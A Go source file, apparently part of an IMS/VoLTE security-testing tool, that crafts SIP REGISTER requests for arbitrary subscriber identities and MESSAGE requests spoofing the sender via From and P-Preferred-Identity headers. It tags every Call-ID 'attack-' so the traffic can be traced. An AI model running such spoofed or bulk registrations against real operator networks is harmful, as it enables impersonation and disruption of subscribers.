package attack

import (
	"net/netip"
	"strconv"
)

// CallID is what the Call-IDs of all messages of the attacker begin with: a network under attack can be searched for what
// got through.
const CallID = "attack-"

// AppendRegister appends an unprotected REGISTER of a phone at src, as a phone would send it first (RFC 3329 §2.3.1, TS
// 24.229 §5.1.1.2). impi is whom it names; n makes its transaction, SPIs and ports differ from those of others.
func AppendRegister(b []byte, src netip.AddrPort, domain, impi string, n int) []byte {
	b = append(b, "REGISTER sip:"...)
	b = append(b, domain...)
	b = appendVia(b, src, n)
	b = append(b, "Max-Forwards: 70\r\nFrom: <sip:"...)
	b = append(b, impi...)
	b = append(b, ">;tag="...)
	b = strconv.AppendInt(b, int64(n), 36)
	b = append(b, "\r\nTo: <sip:"...)
	b = append(b, impi...)
	b = append(b, ">\r\nCall-ID: "+CallID+"register-"...)
	b = strconv.AppendInt(b, int64(n), 10)
	b = append(b, "\r\nCSeq: 1 REGISTER\r\nContact: <sip:a@"...)
	b = src.AppendTo(b)
	b = append(b, ">\r\nExpires: 600000\r\nSupported: path\r\nRequire: sec-agree\r\nProxy-Require: sec-agree\r\n"+
		"Security-Client: ipsec-3gpp;alg=hmac-sha-1-96;ealg=aes-cbc;prot=esp;mod=trans;spi-c="...)
	spi := 1000 + 2*(n%1_000_000_000)
	b = strconv.AppendInt(b, int64(spi), 10)
	b = append(b, ";spi-s="...)
	b = strconv.AppendInt(b, int64(spi+1), 10)
	port := 10000 + 2*(n%20000)
	b = append(b, ";port-c="...)
	b = strconv.AppendInt(b, int64(port), 10)
	b = append(b, ";port-s="...)
	b = strconv.AppendInt(b, int64(port+1), 10)
	b = append(b, "\r\nAuthorization: Digest username=\""...)
	b = append(b, impi...)
	b = append(b, "\",realm=\""...)
	b = append(b, domain...)
	b = append(b, "\",uri=\"sip:"...)
	b = append(b, domain...)
	return append(b, "\",nonce=\"\",response=\"\"\r\nContent-Length: 0\r\n\r\n"...)
}

// AppendMessage appends a MESSAGE to the identity to that claims to come from the identity from.
func AppendMessage(b []byte, src netip.AddrPort, from, to string, n int) []byte {
	b = append(b, "MESSAGE "...)
	b = append(b, to...)
	b = appendVia(b, src, n)
	b = append(b, "Max-Forwards: 70\r\nFrom: <"...)
	b = append(b, from...)
	b = append(b, ">;tag="...)
	b = strconv.AppendInt(b, int64(n), 36)
	b = append(b, "\r\nTo: <"...)
	b = append(b, to...)
	b = append(b, ">\r\nCall-ID: "+CallID+"message-"...)
	b = strconv.AppendInt(b, int64(n), 10)
	b = append(b, "\r\nCSeq: 1 MESSAGE\r\nP-Preferred-Identity: <"...)
	b = append(b, from...)
	return append(b, ">\r\nContent-Type: text/plain\r\nContent-Length: 4\r\n\r\nboo!"...)
}

func appendVia(b []byte, src netip.AddrPort, n int) []byte {
	b = append(b, " SIP/2.0\r\nVia: SIP/2.0/UDP "...)
	b = src.AppendTo(b)
	b = append(b, ";branch=z9hG4bK-attack-"...)
	b = strconv.AppendInt(b, int64(n), 36)
	return append(b, ";rport\r\n"...)
}
